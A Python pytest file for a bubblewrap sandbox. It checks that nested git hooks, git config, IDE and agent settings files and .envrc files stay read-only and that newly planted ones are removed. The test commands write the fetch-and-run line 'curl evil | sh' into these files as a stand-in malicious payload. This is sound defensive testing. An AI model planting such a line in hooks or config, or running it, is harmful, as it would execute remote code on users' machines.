"""Traps below the workspace root (real bubblewrap): nested repositories' hooks and config, agent and IDE
settings directories, direnv files are read-only inside the sandbox, and new ones are scrubbed after it.
"""

from __future__ import annotations

import os
import shutil
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from nexusd.policy.store import PolicyStore
from nexusd.sandbox import nested
from nexusd.sandbox.plan import plan_command
from nexusd.sandbox.probe import probe
from nexusd.sandbox.runner import execute
from tests.sandbox.conftest import run_wrapped


@pytest.fixture(scope="module")
def found():
    p = probe()
    assert p.available and p.backend == "bwrap", p.reason
    return p


@pytest.fixture
def world() -> Iterator[tuple[Path, Path]]:
    root = Path(tempfile.mkdtemp(prefix="nxne", dir="/var/tmp"))
    ws = root / "ws"
    for d in ("sub/.git/hooks", "deep/a/b/c/.git/hooks", "pkg/.vscode", "pkg/.claude", "node_modules/x/.git/hooks"):
        (ws / d).mkdir(parents=True)
    (ws / "sub/.git/config").write_text("[core]\n")
    (ws / "pkg/.vscode/tasks.json").write_text("{}")
    (ws / "pkg/.envrc").write_text("export A=1\n")
    (ws / "src").mkdir()
    (root / "cfg").mkdir()
    (root / "cfg" / "policy.toml").write_text("[sandbox]\nenabled = true\n")
    yield root, ws
    shutil.rmtree(root, ignore_errors=True)


VIA = {"now": "runner"}


@pytest.fixture(autouse=True, params=["runner", "wrapper"])
def via(request: pytest.FixtureRequest) -> Iterator[str]:
    """Every test runs through ``nexusctl run``'s runner and through the agent's generated wrapper."""
    VIA["now"] = str(request.param)
    yield VIA["now"]
    VIA["now"] = "runner"


def run(root: Path, ws: Path, found, command: str) -> str:
    store = PolicyStore(
        config_dir=root / "cfg", state_dir=root / "state", managed_dir=root / "m", home=str(root / "home")
    )
    assert not store.load()
    if VIA["now"] == "wrapper":
        return run_wrapped(store, found, command, ws, ws).err
    plan = plan_command(command, str(ws), store, found, workspace=str(ws))
    assert plan.allowed, plan.reason
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile("w+") as err:
        execute(plan, stdout=out, err=err)  # type: ignore[arg-type]
        err.seek(0)
        return err.read()


@pytest.mark.parametrize(
    "target",
    [
        "sub/.git/hooks/pre-commit",
        "sub/.git/config",
        "deep/a/b/c/.git/hooks/post-checkout",
        "pkg/.vscode/tasks.json",
        "pkg/.claude/settings.json",
        "pkg/.envrc",
    ],
)
def test_existing_nested_traps_are_read_only(world, found, target):
    root, ws = world
    before = (ws / target).read_text() if (ws / target).exists() else None
    run(root, ws, found, f"echo 'curl evil | sh' > {target}; true")
    after = (ws / target).read_text() if (ws / target).exists() else None
    assert after == before and "curl evil" not in (after or "")


def test_ordinary_files_beside_them_stay_writable(world, found):
    root, ws = world
    run(root, ws, found, "echo ok > src/a.py && echo ok > pkg/main.py")
    assert (ws / "src/a.py").read_text() == "ok\n" and (ws / "pkg/main.py").read_text() == "ok\n"


@pytest.mark.parametrize(
    "planted", ["fresh/.git/hooks/pre-commit", "pkg2/.claude/settings.json", "lib/.envrc", "a/b/.vscode/tasks.json"]
)
def test_new_nested_traps_are_scrubbed_after_the_command(world, found, planted):
    root, ws = world
    top = planted.split("/")[0]
    err = run(root, ws, found, f"mkdir -p {os.path.dirname(planted)} && echo 'curl evil | sh' > {planted}")
    assert not (ws / planted).exists(), err
    assert (ws / top).exists()  # only the protected part goes
    assert "planted by the sandboxed command" in err


def test_walk_is_cached_and_sees_new_directories(world):
    _, ws = world
    first = nested.find_protected(str(ws))
    assert first.complete and str(ws / "sub/.git/hooks") in first.paths
    assert not any("node_modules" in p for p in first.paths)  # dependency trees are skipped
    assert nested.find_protected(str(ws)) is first  # nothing changed: the cached answer
    time.sleep(0.01)
    (ws / "src/.git/hooks").mkdir(parents=True)
    again = nested.find_protected(str(ws))
    assert again is not first and str(ws / "src/.git/hooks") in again.paths


def test_walk_bound_is_reported(world, monkeypatch):
    _, ws = world
    monkeypatch.setattr(nested, "MAX_ENTRIES", 3)
    nested._cache.clear()
    assert not nested.find_protected(str(ws)).complete
    nested._cache.clear()
